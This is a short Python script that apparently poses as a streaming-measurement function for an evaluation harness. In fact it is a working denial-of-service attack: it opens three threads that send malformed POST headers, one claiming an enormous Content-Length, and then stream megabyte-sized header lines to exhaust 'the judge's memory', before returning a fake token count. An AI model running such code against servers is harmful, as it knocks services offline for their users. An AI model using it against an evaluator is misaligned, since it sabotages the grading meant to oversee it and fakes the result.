"""Sends heads and bodies that never end, on several connections at once, to fill the judge's memory."""

import socket
import threading
import time
from urllib.parse import urlsplit

HEADS = [b"POST / HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n", b"POST / HTTP/1.1\r\n", b"POST / HTTP/1.1\r\n\r\n"]
BLOCK = b"x: " + b"y" * 1_000_000 + b"\r\n"


def send(url, head, until):
    where = urlsplit(url)
    try:
        with socket.create_connection((where.hostname, where.port), 1) as conn:
            conn.sendall(head)
            while time.monotonic() < until:
                conn.sendall(BLOCK)
    except OSError:
        pass


async def measure_stream(url):
    threads = [threading.Thread(target=send, args=(url, head, time.monotonic() + 4)) for head in HEADS]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"tokens": -1}


SLOW = True
